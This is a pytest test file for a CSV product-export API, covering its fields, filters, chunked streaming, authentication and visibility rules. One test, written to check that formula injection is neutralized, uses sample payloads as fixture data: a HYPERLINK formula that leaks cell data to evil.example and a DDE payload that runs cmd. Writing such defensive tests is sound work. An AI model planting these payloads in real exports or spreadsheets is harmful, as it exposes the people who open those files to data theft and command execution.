"""`GET /api/products/export.csv` (contract 15.3): the caller's products as CSV, with the list's filters,
formula injection neutralized, streamed in chunks."""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable
from datetime import UTC, date, datetime
from decimal import Decimal

import httpx
import pytest
from fastapi import FastAPI

from app.core.clock import frozen_time
from app.products.routes import transfer
from tests.factories.claims import create_claim
from tests.factories.households import household_cast
from tests.factories.products import create_product
from tests.factories.users import auth_headers, create_admin, create_user
from tests.helpers import assert_error, count_queries

NOW = datetime(2026, 3, 10, 12, 30, tzinfo=UTC)
HEADER = [
    "id", "name", "brand", "category", "purchaseDate", "warrantyPeriodMonths", "warrantyEndsOn",
    "warrantyExpiresAt", "warrantyStatus", "store", "price", "serialNumber", "hasActiveClaim", "createdAt",
    "updatedAt",
]  # fmt: skip


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    reader = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert next(reader) == HEADER
    return [dict(zip(HEADER, record, strict=True)) for record in reader]


async def test_the_export_has_a_header_and_every_field_of_each_product(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    headers = auth_headers(app, owner)  # tokens are checked against the real clock too
    with frozen_time(NOW):
        product = await create_product(
            app, owner, name="Espresso machine, \"deluxe\"\nsecond line", brand="Gaggia",
            category="Küche", purchase_date=date(2024, 1, 31), warranty_period_months=25,
            price=Decimal("499.9"), store="Coffee & Co", serial_number="SN-1",
        )  # fmt: skip
        plain = await create_product(app, owner, name="Kettle", purchase_date=date(2025, 1, 1))
        await create_claim(app, plain)
        response = await client.get("/api/products/export.csv", headers=headers)

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="products.csv"'
    assert response.content.startswith(b"id,name,")  # UTF-8 without a byte-order mark
    rows = _rows(response)
    assert [row["id"] for row in rows] == [str(plain.id), str(product.id)]  # newest first, as the list
    assert rows[1] == {
        "id": str(product.id),
        "name": 'Espresso machine, "deluxe"\nsecond line',
        "brand": "Gaggia",
        "category": "Küche",
        "purchaseDate": "2024-01-31",
        "warrantyPeriodMonths": "25",
        "warrantyEndsOn": "",
        "warrantyExpiresAt": "2026-02-28",
        "warrantyStatus": "expired",
        "store": "Coffee & Co",
        "price": "499.90",
        "serialNumber": "SN-1",
        "hasActiveClaim": "false",
        "createdAt": "2026-03-10T12:30:00+00:00",
        "updatedAt": "2026-03-10T12:30:00+00:00",
    }
    assert rows[0]["hasActiveClaim"] == "true"
    assert rows[0]["store"] == rows[0]["price"] == rows[0]["serialNumber"] == ""


async def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralized(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]
    for name in names:
        await create_product(app, owner, name=name, brand="=cmd|' /C calc'!A0", serial_number="-1")
    await create_product(app, owner, name="Plain = fine", brand="Brand+", serial_number="1-2")

    rows = _rows(
        await client.get(
            "/api/products/export.csv?sort=createdAt&order=asc", headers=auth_headers(app, owner)
        )
    )

    assert [row["name"] for row in rows] == [*("'" + name for name in names), "Plain = fine"]
    assert {row["brand"] for row in rows[:-1]} == {"'=cmd|' /C calc'!A0"}
    assert {row["serialNumber"] for row in rows[:-1]} == {"'-1"}
    assert (rows[-1]["brand"], rows[-1]["serialNumber"]) == ("Brand+", "1-2")


async def test_the_lists_filters_and_sort_apply_and_only_the_callers_products_show(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner, other, admin = await create_user(app), await create_user(app), await create_admin(app)
    headers, admin_headers = auth_headers(app, owner), auth_headers(app, admin)
    with frozen_time(NOW):
        await create_product(app, owner, name="B kettle", brand="Bosch", purchase_date=date(2026, 1, 1))
        await create_product(app, owner, name="a toaster", brand="bosch", purchase_date=date(2020, 1, 1))
        await create_product(app, owner, name="C grinder", brand="Gaggia")
        await create_product(app, other, name="Theirs", brand="Bosch")
        await create_product(app, admin, name="Admin's", brand="Bosch")
        by_brand = _rows(
            await client.get("/api/products/export.csv?brand=BOSCH&sort=name&order=asc", headers=headers)
        )
        expired = _rows(await client.get("/api/products/export.csv?warrantyStatus=expired", headers=headers))
        searched = _rows(await client.get("/api/products/export.csv?search=GRIND", headers=headers))
        admins = _rows(await client.get("/api/products/export.csv", headers=admin_headers))

    assert [row["name"] for row in by_brand] == ["a toaster", "B kettle"]
    assert [row["name"] for row in expired] == ["a toaster"]
    assert [row["name"] for row in searched] == ["C grinder"]
    assert [row["name"] for row in admins] == ["Admin's"]  # like GET /api/products: one's own


async def test_an_owner_without_products_gets_the_header_only(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    owner = await create_user(app)
    assert _rows(await client.get("/api/products/export.csv", headers=auth_headers(app, owner))) == []


@pytest.mark.parametrize("sort", ["name", "brand", "purchaseDate", "warrantyExpiresAt", "createdAt"])
async def test_the_export_streams_in_chunks_each_row_once_in_order(
    app: FastAPI, client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch, sort: str
) -> None:
    monkeypatch.setattr(transfer, "CHUNK", 3)
    owner = await create_user(app)
    for number in range(8):  # ties on every sort key but the id, across chunk boundaries
        await create_product(app, owner, name="Same", brand="Same", created_at=NOW, updated_at=NOW)
        if number % 3 == 0:
            await create_product(app, owner, name=f"N{number}", purchase_date=date(2025, 1, number + 1))
    headers = auth_headers(app, owner)
    listed = (await client.get(f"/api/products?sort={sort}&order=asc", headers=headers)).json()

    with count_queries(app) as statements:
        rows = _rows(await client.get(f"/api/products/export.csv?sort={sort}&order=asc", headers=headers))

    assert [row["id"] for row in rows] == [str(product["id"]) for product in listed]
    assert len(rows) == 11
    product_reads = [s for s in statements if "FROM products" in s]
    assert len(product_reads) == 4  # 3 + 3 + 3 + 2 rows, one query each


async def test_the_export_needs_a_signed_in_user_and_a_known_sort(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    assert_error(await client.get("/api/products/export.csv"), 401, "AUTH_REQUIRED")
    owner = await create_user(app)
    response = await client.get("/api/products/export.csv?sort=price", headers=auth_headers(app, owner))
    assert_error(response, 400, "VALIDATION_INVALID_SORT")


async def test_the_csv_paths_are_not_taken_for_product_ids(app: FastAPI, client: httpx.AsyncClient) -> None:
    owner = await create_user(app)
    headers = auth_headers(app, owner)
    for method, path, allowed in (
        ("PUT", "/api/products/export.csv", "GET"),
        ("DELETE", "/api/products/export.csv", "GET"),
        ("GET", "/api/products/import", "POST"),
    ):
        response = await client.request(method, path, headers=headers)
        assert_error(response, 405, "METHOD_NOT_ALLOWED")
        assert response.headers["allow"] == allowed
    assert (await client.get("/api/products/export.csv", headers=headers)).status_code == 200


async def test_the_export_follows_the_lists_visibility_and_its_sharing_filters(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    cast = await household_cast(app)
    with frozen_time(NOW):
        await create_product(app, cast.owner, name="Fridge", household_id=cast.household.id)
        await create_product(app, cast.owner, name="Private")
        await create_product(app, cast.viewer, name="Viewer's own")
        await create_product(app, await create_user(app), name="Theirs")
    headers = auth_headers(app, cast.viewer)

    def names(query: str) -> Awaitable[list[str]]:
        async def read() -> list[str]:
            rows = _rows(await client.get(f"/api/products/export.csv{query}", headers=headers))
            return sorted(row["name"] for row in rows)

        return read()

    assert await names("") == ["Fridge", "Viewer's own"]
    assert await names("?owner=me") == ["Viewer's own"]
    assert await names(f"?householdId={cast.household.id}") == ["Fridge"]
    listed = (await client.get("/api/products", headers=headers)).json()
    assert sorted(item["name"] for item in listed) == await names("")
